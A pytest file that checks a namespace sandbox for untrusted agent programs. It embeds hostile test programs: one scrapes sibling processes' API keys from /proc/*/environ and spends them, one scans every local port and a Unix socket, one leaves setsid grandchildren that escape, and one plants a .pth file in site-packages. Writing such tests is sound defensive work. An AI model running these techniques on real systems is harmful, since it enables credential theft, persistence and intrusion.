"""Agent programs are untrusted (issue 39, items 2, 3 and 9): each runs in its own user, mount and PID
namespaces with a private /proc and the data root hidden but for the corpus.

Driven as the attacker did it: real hostile programs, run concurrently through the rollout driver
against the real gateway over the tiny policy, that scan /proc for their siblings' OPENAI_API_KEY
and call with it, write a table into the run, read mlflow.db, and leave grandchildren that call
setpgid/setsid. Each attack is also run without the jail, to show that the test can fail."""

from __future__ import annotations

import fcntl
import json
import os
import signal
import socket
import struct
import sys
import sysconfig
import textwrap
import time
from dataclasses import replace
from pathlib import Path

import pytest

from agent_core.config import RolloutConfig
from agent_core.data.rows import document_to_row
from agent_core.envs.agent_program import ProgramJail, ProgramJob, run_program
from agent_core.envs.program_spec import ProgramSpec
from agent_core.io.tables import write_table
from agent_core.rollout.hf_engine import HFEngine
from agent_core.training.model import build_tiny_policy, build_tokenizer
from agent_core.types import ChatMessage, Document, Prompt
from agent_core.drivers import DataAccess, roll_out

GROUP = 4
# Waits until all GROUP siblings run (a file each in the barrier folder, or 2 s where it cannot write one), steals what /proc shows,
# calls the gateway with every stolen token and its own, attacks the data root, answers what it saw.
HOSTILE = textwrap.dedent("""
    import glob, json, os, sys, time, urllib.request
    prompt = json.load(sys.stdin)
    barrier, root = sys.argv[1], sys.argv[2]
    try:
        open(os.path.join(barrier, os.environ["AGENTR1_EPISODE_ID"]), "w").close()
        deadline = time.time() + 20
        while len(os.listdir(barrier)) < %d and time.time() < deadline:
            time.sleep(0.02)
    except OSError:  # jailed: nothing outside its scratch is writable; its siblings started with it
        time.sleep(2)
    own, stolen = os.environ["OPENAI_API_KEY"], set()
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            for entry in open(path, "rb").read().split(b"\\0"):
                if entry.startswith(b"OPENAI_API_KEY=") and entry[15:].decode() != own:
                    stolen.add(entry[15:].decode())
        except OSError:
            pass
    def call(token):
        request = urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions",
            data=json.dumps({"model": "policy", "messages": prompt["messages"]}).encode(),
            headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"})
        try:
            return urllib.request.urlopen(request).status
        except Exception as error:
            return str(error)
    served = [call(token) for token in sorted(stolen)]
    own_call = call(own)
    seen = {}
    for name, action in (("write_table", lambda: open(os.path.join(root, "runs", "r", "costs.parquet"), "wb").write(b"x")),
                         ("read_mlflow", lambda: open(os.path.join(root, "mlflow.db"), "rb").read()),
                         ("read_corpus", lambda: open(os.environ["AGENTR1_CORPUS"], "rb").read(4))):
        try:
            action()
            seen[name] = "ok"
        except OSError as error:
            seen[name] = error.strerror
    print(json.dumps({"answer": json.dumps({"stolen": len(stolen), "served_stolen": served.count(200),
                                            "own_call": own_call, **seen})}))
""" % GROUP)


@pytest.fixture(scope="module", autouse=True)
def namespaces(tmp_path_factory):
    """These tests need what the jail asks of the kernel; a machine that refuses it is named."""
    probe = run_program(ProgramSpec(command=(sys.executable, "-c", "print(1)")), ProgramJob("probe", {}, {}),
                        ProgramJail.around([tmp_path_factory.mktemp("probe")]))
    missing = dict(probe.jail.refused)
    if missing:
        pytest.skip(f"this machine refuses jail layers: {missing}")


@pytest.fixture(scope="module")
def engine_and_tokenizer():
    tokenizer = build_tokenizer(["Who directed The Silent Harbor? Ana Kowalski was born in Gdansk."] * 20,
                                vocab_size=320)
    policy = build_tiny_policy(tokenizer, hidden_size=32, num_layers=2, num_heads=2, intermediate_size=64, seed=0)
    return HFEngine(policy, tokenizer), tokenizer


@pytest.fixture()
def data_root(tmp_path) -> Path:
    root = tmp_path / "root"
    (root / "runs" / "r").mkdir(parents=True)
    (root / "mlflow.db").write_bytes(b"SQLite format 3\0 the registry")
    write_table("corpus", [document_to_row(Document("d0", "Harbor", "The Silent Harbor, by Ana Kowalski."))],
                root / "datasets" / "d" / "corpus.parquet")
    return root


def _hostile_rollout(engine_and_tokenizer, tmp_path: Path, root: Path, jailed: bool) -> list[dict]:
    engine, tokenizer = engine_and_tokenizer
    barrier = tmp_path / "barrier"
    barrier.mkdir()
    program = tmp_path / "hostile.py"
    program.write_text(HOSTILE)
    cfg = RolloutConfig(env="agent_program", group_size=GROUP, max_steps=1,
                        env_kwargs={"command": [sys.executable, str(program), str(barrier), str(root)],
                                    "max_parallel": GROUP, "timeout_s": 60},
                        max_new_tokens=4, max_context_tokens=512)
    prompt = Prompt("q0", "test", "train", (ChatMessage("user", "Who directed The Silent Harbor?"),),
                    ("Ana Kowalski",), "search_qa")
    records = roll_out(engine, tokenizer, [prompt], [], cfg, seed=0, policy_version=0, episode_prefix="",
                       access=DataAccess(str(root / "datasets" / "d" / "corpus.parquet"),
                                         str(root) if jailed else None))
    finals = {r.episode_id: json.loads(r.info) for r in records if r.done}
    assert len(finals) == GROUP, [(r.episode_id, r.info) for r in records]
    steps = {episode: sum(r.episode_id == episode for r in records) for episode in finals}
    # what each program saw (its answer), or why the gateway served it nothing
    return [{"steps": steps[episode], **_seen(info)} for episode, info in sorted(finals.items())]


def _seen(info: dict) -> dict:
    """What a program reported (its answer, scored or cut off by the budget), else why it got nothing."""
    answer = info.get("answer") or info.get("program_answer")
    return json.loads(answer) if answer else {"error": info.get("error", "no answer")}


def test_a_program_cannot_take_a_siblings_token_or_touch_the_data_root(engine_and_tokenizer, tmp_path, data_root):
    before = sorted(p.relative_to(data_root) for p in data_root.rglob("*"))
    seen = _hostile_rollout(engine_and_tokenizer, tmp_path, data_root, jailed=True)
    for program in seen:
        assert "error" not in program and program["stolen"] == program["served_stolen"] == 0, seen
        assert program["own_call"] == 200 and program["steps"] == 1, seen  # its own budget, untouched
        # the run folder is out of sight, and the root an empty read-only tmpfs
        assert program["write_table"] in ("No such file or directory", "Read-only file system"), seen
        assert program["read_mlflow"] == "No such file or directory", seen
        assert program["read_corpus"] == "ok", seen
    assert sorted(p.relative_to(data_root) for p in data_root.rglob("*")) == before


def test_without_the_jail_the_same_program_steals_tokens(engine_and_tokenizer, tmp_path, data_root):
    """The control: the attack works when programs share /proc and the data root."""
    seen = _hostile_rollout(engine_and_tokenizer, tmp_path, data_root, jailed=False)
    # a thief's answer says so, or a victim's own first call was refused: a thief used its budget
    assert any(program.get("stolen", 0) > 0 or "refused the first request" in program.get("error", "")
               for program in seen), seen
    assert (data_root / "runs" / "r" / "costs.parquet").exists()


ESCAPER = textwrap.dedent("""
    import os, subprocess, sys, time
    marker, ready = sys.argv[1], os.path.join(os.environ["TMPDIR"], "ready-")  # its scratch: writable when jailed
    for k, how in enumerate(("os.setpgid(0, 0)", "os.setsid()")):
        subprocess.Popen([sys.executable, "-c", f"import os, time; {how}; open({ready!r} + '{k}', 'w').close(); "
                          "time.sleep(60)", marker])
    deadline = time.time() + 20
    while not all(os.path.exists(ready + str(k)) for k in range(2)) and time.time() < deadline:
        time.sleep(0.02)  # both have left the process group before the program ends
    started = all(os.path.exists(ready + str(k)) for k in range(2))
    print('{"answer": "%s"}' % ("left two behind" if started else "they never started"))
""")


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                found.append(int(entry))
        except OSError:
            pass
    return found


@pytest.mark.parametrize("jailed", [True, False], ids=["jailed", "control"])
def test_a_grandchild_that_leaves_the_group_dies_with_the_program(tmp_path, jailed):
    program = tmp_path / "escaper.py"
    program.write_text(ESCAPER)
    marker = f"agentr1-escape-{os.getpid()}-{time.monotonic_ns()}"
    spec = ProgramSpec(command=(sys.executable, str(program), marker), timeout_s=30)
    jail = ProgramJail.around([tmp_path / "root-none"]) if jailed else None
    try:
        outcome = run_program(spec, ProgramJob("e0", {}, {}), jail)
        assert outcome.failure is None and outcome.answer == "left two behind"
        left = _processes_with(marker)
        if jailed:
            assert left == [] and "pid_namespace" in outcome.jail.layers
        else:
            assert len(left) == 2  # the control: both escaped the process-group kill
    finally:
        for pid in _processes_with(marker):
            os.kill(pid, signal.SIGKILL)


def test_exit_codes_signals_and_timeouts_come_through_the_jail(tmp_path):
    jail = ProgramJail.around([tmp_path])
    run = (lambda code, timeout_s=30: run_program(ProgramSpec(command=(sys.executable, "-c", code),
                                                              timeout_s=timeout_s), ProgramJob("j", {}, {}), jail))
    assert run("import sys; sys.exit('broke down')").failure == "exit code 1: broke down"
    assert run("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)").failure.startswith(
        "killed by signal SIGSEGV")
    started = time.monotonic()
    hung = run("import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(60)", timeout_s=1)
    assert hung.failure == "timed out after 1 s (process group killed)" and time.monotonic() - started < 30
    assert run("print('{\"answer\": \"fine\"}')").answer == "fine"
    assert run_program(ProgramSpec(command=("no-such-agent-program",)), ProgramJob("j", {}, {}), jail).failure == (
        "exit code 127: could not start 'no-such-agent-program': No such file or directory")


def test_a_working_directory_inside_the_hidden_root_is_named(tmp_path, monkeypatch):
    (tmp_path / "root" / "work").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "root" / "work")
    outcome = run_program(ProgramSpec(command=(sys.executable, "-c", "print(1)")), ProgramJob("j", {}, {}),
                          ProgramJail.around([tmp_path / "root"]))
    assert outcome.failure.startswith("exit code 127: agent program jail: its working directory")
    assert "inside a hidden path such as the data root" in outcome.failure


def test_a_layer_the_kernel_refuses_is_named_and_the_rest_still_apply(tmp_path):
    """A tmpfs cannot cover a regular file (ENOTDIR): hidden_paths is refused with the kernel's
    reason, the program still runs in its own PID namespace."""
    afile = tmp_path / "a-file"
    afile.write_text("not a directory")
    outcome = run_program(ProgramSpec(command=(sys.executable, "-c", "print('{\"answer\": \"ran\"}')")),
                          ProgramJob("j", {}, {}), ProgramJail.around([afile]))
    assert outcome.answer == "ran"
    refused = dict(outcome.jail.refused)
    assert "hidden_paths" not in outcome.jail.layers and "Not a directory" in refused["hidden_paths"]
    assert {"pid_namespace", "private_proc", "locked_mounts"} <= set(outcome.jail.layers)


# Issue 55: scans every port of 127.0.0.1 and the host's own addresses, then calls its gateway.
SCANNER = textwrap.dedent("""
    import json, os, socket, sys, urllib.request
    prompt = json.load(sys.stdin)
    ports = range(1, 65536) if sys.argv[1] == "all" else [int(port) for port in sys.argv[1].split(",")]
    def is_open(host, port):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
            probe.settimeout(0.5)  # a port equal to the probe's own source port connects to itself: not a listener
            return probe.connect_ex((host, port)) == 0 and probe.getsockname() != probe.getpeername()
    found = [port for port in ports if is_open("127.0.0.1", port)]
    reached = [host for host in sys.argv[2].split(",") if host and is_open(host, int(sys.argv[3]))]
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
            unix.connect(sys.argv[4])
        unix_socket = "connected"
    except OSError as error:
        unix_socket = error.strerror
    request = urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions",
        data=json.dumps({"model": "policy", "messages": prompt["messages"]}).encode(),
        headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"})
    status = urllib.request.urlopen(request).status
    gateway = int(os.environ["OPENAI_BASE_URL"].rsplit(":", 1)[1].split("/")[0])
    print(json.dumps({"answer": json.dumps({"open": found, "reached": reached, "unix_socket": unix_socket,
                                            "gateway": gateway, "call": status})}))
""")


def _host_addresses() -> list[str]:
    """This machine's IPv4 addresses other than loopback (SIOCGIFADDR of each interface)."""
    found = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        for _, name in socket.if_nameindex():
            try:
                packed = fcntl.ioctl(control, 0x8915, struct.pack("256s", name.encode()[:15]))
            except OSError:
                continue
            address = socket.inet_ntoa(packed[20:24])
            if not address.startswith("127."):
                found.append(address)
    return found


@pytest.mark.parametrize("jailed, network", [(True, "gateway"), (True, "host"), (False, "gateway")],
                         ids=["jailed", "jailed-host-network", "control"])
def test_a_program_reaches_its_gateway_and_nothing_else_on_the_network(engine_and_tokenizer, tmp_path, data_root,
                                                                      jailed, network):
    """A service on the host (the viewer, Prefect's API, MLflow, Ray: here a plain listener on every
    address, or a Unix socket) is out of reach of a jailed program: a scan of all 65,535 ports of
    127.0.0.1 finds its gateway alone, the host's own addresses answer nothing, a Unix socket cannot be
    made; the control, and a jailed program given `network: host`, find the service."""
    engine, tokenizer = engine_and_tokenizer
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as service, \
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix_service:
        service.bind(("0.0.0.0", 0))
        service.listen(8)
        unix_service.bind(str(tmp_path / "service.sock"))  # a pathname socket, as Ray's under /tmp/ray
        unix_service.listen(8)
        port = service.getsockname()[1]
        program = tmp_path / "scanner.py"
        program.write_text(SCANNER)
        isolated = jailed and network == "gateway"
        cfg = RolloutConfig(env="agent_program", group_size=1, max_steps=1, max_new_tokens=4, max_context_tokens=512,
                            env_kwargs={"command": [sys.executable, str(program), "all" if isolated else str(port),
                                                    ",".join(_host_addresses()), str(port),
                                                    str(tmp_path / "service.sock")],
                                        "timeout_s": 120, "network": network})
        prompt = Prompt("q0", "test", "train", (ChatMessage("user", "Who directed The Silent Harbor?"),),
                        ("Ana Kowalski",), "search_qa")
        records = roll_out(engine, tokenizer, [prompt], [], cfg, seed=0, policy_version=0, episode_prefix="",
                           access=DataAccess(None, str(data_root) if jailed else None))
    seen = _seen(json.loads(next(r.info for r in records if r.done)))
    assert seen["call"] == 200, seen
    if isolated:
        assert seen["open"] == [seen["gateway"]] and seen["reached"] == [], seen
        assert seen["unix_socket"] == "Permission denied", seen
    else:
        assert seen["open"] == [port] and len(seen["reached"]) == len(_host_addresses()), seen
        assert seen["unix_socket"] == "connected", seen


# Issue 55: plants a .pth where the next `agentr1` would run it, writes where it is allowed, reports.
PLANTER = textwrap.dedent("""
    import json, os, sys, sysconfig
    folders, tag = sys.argv[1:-1], sys.argv[-1]
    wrote = {}
    for folder in folders:
        try:
            with open(os.path.join(folder, f"agentr1-planted-{tag}.pth"), "w") as planted:
                planted.write("import os\\n")
            wrote[folder] = "ok"
        except OSError as error:
            wrote[folder] = error.strerror
    try:
        with open(os.path.join(os.environ["TMPDIR"], "big"), "wb") as scratch_file:
            scratch_file.write(b"x" * 2 * 2**20)
        big = "ok"
    except OSError as error:
        big = error.strerror
    print(json.dumps({"answer": json.dumps({"wrote": wrote, "big": big, "uid": os.getuid(), "env": sorted(os.environ),
                                            "tmpdir": os.environ["TMPDIR"], "home": os.environ["HOME"]})}))
""")


def test_a_jailed_program_writes_nothing_outside_its_scratch_and_gets_no_credentials(tmp_path, monkeypatch):
    """The .pth plant: the venv's site-packages, the checkout, the system temp folder and any folder of the
    host are read-only to a jailed program, which runs as an unprivileged uid with the documented
    environment only; its scratch (HOME, TMPDIR) is gone when it ends. The control writes."""
    monkeypatch.setenv("AGENTR1_TEST_CREDENTIAL", "s3cret")
    monkeypatch.setenv("AGENTR1_TEST_LISTED", "wanted")
    program, outside = tmp_path / "planter.py", tmp_path / "outside"
    outside.mkdir()
    program.write_text(PLANTER)
    tag = f"{os.getpid()}-{time.monotonic_ns()}"
    folders = [sysconfig.get_paths()["purelib"], str(Path(__file__).resolve().parent.parent), "/tmp", str(outside)]
    spec = ProgramSpec(command=(sys.executable, str(program), *folders, tag), env=("AGENTR1_TEST_LISTED",),
                       scratch_mb=1)
    try:
        jailed = run_program(spec, ProgramJob("p", {}, {"OPENAI_API_KEY": "k"}), ProgramJail.around([tmp_path / "root"]))
        control = run_program(replace(spec, command=(sys.executable, str(program), str(outside), tag)),
                              ProgramJob("c", {}, {}))
        planted = [os.path.join(folder, f"agentr1-planted-{tag}.pth") for folder in folders]
        assert control.failure is None and json.loads(control.answer)["wrote"] == {str(outside): "ok"}
        assert json.loads(control.answer)["big"] == "ok"  # no tmpfs, no cap
        os.remove(planted[-1])  # the control's
        assert jailed.failure is None, jailed.failure
        seen = json.loads(jailed.answer)
        assert seen["wrote"] == {folder: "Read-only file system" for folder in folders}, seen
        assert seen["big"] == "No space left on device"  # scratch_mb: 1
        assert not any(os.path.exists(path) for path in planted)
        assert seen["uid"] != 0 and {"scratch", "unprivileged", "read_only_root"} <= set(jailed.jail.layers)
        assert "AGENTR1_TEST_CREDENTIAL" not in seen["env"] and "AGENTR1_TEST_LISTED" in seen["env"]
        assert set(seen["env"]) <= {"PATH", "HOME", "TMPDIR", "OPENAI_API_KEY", "AGENTR1_TEST_LISTED", "LANG",
                                    "LC_ALL", "LC_CTYPE", "TZ"}, seen["env"]
        assert seen["home"].startswith(seen["tmpdir"]) and not os.path.exists(seen["tmpdir"])
    finally:
        for folder in folders:
            Path(folder, f"agentr1-planted-{tag}.pth").unlink(missing_ok=True)
